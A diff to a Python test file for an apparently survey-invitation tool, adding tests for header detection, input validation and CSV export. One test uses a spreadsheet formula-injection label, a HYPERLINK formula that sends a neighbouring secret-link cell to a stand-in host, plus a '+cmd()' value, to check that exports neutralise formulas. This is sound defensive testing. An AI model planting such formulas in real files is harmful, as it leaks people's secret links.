@@ -13,6 +13,8 @@ import pytest
 from croupier.client.surveys import fetch_survey
 from croupier.deploy.operator.invitation_cards import write_links
 from croupier.deploy.operator.invitations import (
+    People,
+    invite,
     invite_people,
     invited_people,
     read_people,
@@ -20,6 +22,7 @@ from croupier.deploy.operator.invitations import (
     revoke_invitations,
     who_has_not_answered,
 )
+from croupier.deploy.operator.roster import enrolled, read_keys
 from croupier.protocol.identity import public_key_of
 from croupier.protocol.invitations import Invitation
 from croupier.protocol.names import Digest, RoundId
@@ -33,26 +36,37 @@ from tests.support.surveys import links_of, opened_survey, survey_file
 PNG = b"\x89PNG\r\n"
 
 
-def test_people_are_read_with_or_without_names_of_columns() -> None:
-    named = read_people([["Name", "email"], ["Ada", "ada@example.org"], ["Bob"], []])
-    assert named.columns == ("Name", "email")
-    assert named.rows == (("Ada", "ada@example.org"), ("Bob", ""))
-    assert read_people([["Ada", "1"], ["Bob", "2"]]).rows == (("Ada",), ("Bob",))
+def rows(*table: list[str]) -> list[tuple[int, list[str]]]:
+    return list(enumerate(table, start=1))
+
+
+def test_the_first_row_of_a_list_of_people_is_its_header() -> None:
+    """Reproduction: the header was invited as a person unless it began with "label" or "name"."""
+    people = read_people(rows(["person", "e-mail", ""], ["Ada", "ada@example.org"], ["", ""], ["Bob"]))
+    assert people.columns == ("person", "e-mail")
+    assert people.rows == (("Ada", "ada@example.org"), ("Bob", ""))
+    assert people.labels == ["Ada", "Bob"]
 
 
 @pytest.mark.parametrize(
     ("text", "said"),
     [
-        ("label\n", "0 people are invited; it must be 1..100000"),
-        ("Ada\nBob\nAda\n", "the label 'Ada' is there twice"),
-        ("label,mail\n,a@b.c\n", "no label"),
-        ("Ada\x1b[2J\n", "no control characters"),
-        ("A" * 201, "a label has 201 characters; at most 200"),
+        ("", ("0 people", "1..100000")),
+        ("label\n", ("0 people", "1..100000")),
+        ("label\nAda\nBob\nAda\n", ("'Ada'",)),
+        ("label,mail\n,a@b.c\n", ("label",)),
+        ("label\nAda\x1b[2J\n", ("control characters",)),
+        ("label\x1b[2J\nAda\n", ("column 1", "control characters")),
+        ("label\n" + "A" * 201, ("201 characters", "200")),
+        ("label\nAda\nBob,b@c.d\n", ("line 3", 2, 1)),
+        ("label,,mail\nAda,1,2\n", ("column 2", "''")),
+        ("label,mail,mail\nAda,1,2\n", ("column 3", "'mail'")),
+        ("label,link\nAda,https://a.example\n", ("column 2", "'link'")),
     ],
 )
-def test_people_who_cannot_be_invited_are_named(text: str, said: str) -> None:
-    with pytest.raises(ValueError, match=said):
-        read_people(line.split(",") for line in text.splitlines())
+def test_people_who_cannot_be_invited_are_named(text: str, said: tuple[object, ...]) -> None:
+    with pytest.raises(ValueError, match=naming(*said)):
+        read_people(rows(*(line.split(",") for line in text.splitlines())))
 
 
 def test_links_are_written_for_a_mail_merge_and_for_printing(tmp_path: Path) -> None:
@@ -75,6 +89,33 @@ def test_links_are_written_for_a_mail_merge_and_for_printing(tmp_path: Path) -> 
     assert folder.stat().st_mode & 0o077 == 0
     write_links(tmp_path / "plain", ("label",), [("Ada",)], [link], "", "Q", False)
     assert (tmp_path / "plain" / "links.csv").read_text() == f"label,link,expires\nAda,{link},\n"
+
+
+@pytest.mark.asyncio
+async def test_no_file_of_links_or_people_holds_a_formula(tmp_path: Path) -> None:
+    """Reproduction: a spreadsheet ran a cell of people.csv in the file that has everybody's secret link."""
+    label, mail = '=HYPERLINK("https://a.example/?"&B2)', "+cmd()"
+    people = People(("label", "@mail"), ((label, mail),))
+    async with table(tmp_path, 1) as at:
+        survey, where, how = await opened_survey(at), at.inside.directory, at.inside.transport
+        gateway = "https://gateway.example"
+        settings = {"gateway": gateway, "qr_codes": False, "transport": how}
+        await invite_people(where, survey.survey_id, people, tmp_path / "links", **settings)  # type: ignore[arg-type]
+        await invite(where, people, tmp_path / "links.csv", gateway, transport=how)
+        written = [
+            tmp_path / "links" / "links.csv",
+            tmp_path / "links.csv",
+            where / "operator" / "surveys" / survey.survey_id / "invitations.csv",
+            where / "operator" / "enrolled.csv",
+        ]
+        for file in written:
+            header, row = csv.reader(file.read_text().splitlines())
+            assert not [cell for cell in (*header, *row) if cell.startswith(("=", "+", "@"))]
+            assert dict(zip(header, row, strict=True))["label"] == f"'{label}"
+        assert [person.label for person in invited_people(where, survey.survey_id)] == [label]
+        assert [person.label for person in enrolled(where)] == [label]
+        again = read_keys(list(enumerate(csv.reader(written[-1].read_text().splitlines()), start=1)), "enrolled.csv")
+        assert [person.label for person in again] == [label]
 
 
 def test_a_link_that_is_not_an_invitation_is_not_repeated() -> None:
@@ -106,7 +147,7 @@ async def test_invitations_are_listed_reissued_and_revoked(tmp_path: Path) -> No
         with pytest.raises(ValueError, match=naming("1970-01-01T00:00:01Z")):
             await links_of(at, survey, tmp_path / "more", "Dan", until=1)
         with pytest.raises(ValueError, match=naming("https://gateway")):
-            await invite_people(where, survey.survey_id, read_people([["Dan"]]), tmp_path / "more", transport=how)
+            await invite_people(where, survey.survey_id, People.labelled(["Dan"]), tmp_path / "more", transport=how)
         async with at.operator.client(tmp_path / "client") as client:
             await (await fetch_survey(client))[0].submit("very", 1.0, invitation=ada)
         assert await who_has_not_answered(where, survey.survey_id, how) == ["Bob", "Eve"]
@@ -163,6 +204,11 @@ async def test_invitations_from_the_command_line(tmp_path: Path) -> None:
         assert await ask("invite", "restore", "w") == {"good": 1}
         said = await asyncio.to_thread(croupier, "invite", "status", "w", "--dir", place)
         assert re.search(naming("3 invitations", 1, "2 revoked", 0), " ".join(said.stdout.split()))
+        write_book(people, [("person", "e-mail"), ("Dan", "d@e.org"), ("Fay", "f@e.org")])
+        more = ("invite", "w", "--people", people, "--no-qr", "--out", tmp_path / "more", *gateway, "--dir", place)
+        said = await asyncio.to_thread(croupier, *more)
+        assert re.search(naming("person, e-mail", "2 people", "'Dan'"), " ".join(said.stderr.split()))
+        assert invited_people(place, "w")[-2].label == "Dan"
         both = ("invite", "w", "--count", "2", "--people", people, *gateway)
         said = await asyncio.to_thread(croupier, *both, "--dir", place, expect=2)
         assert "give --people, a file, or --count" in said.stderr
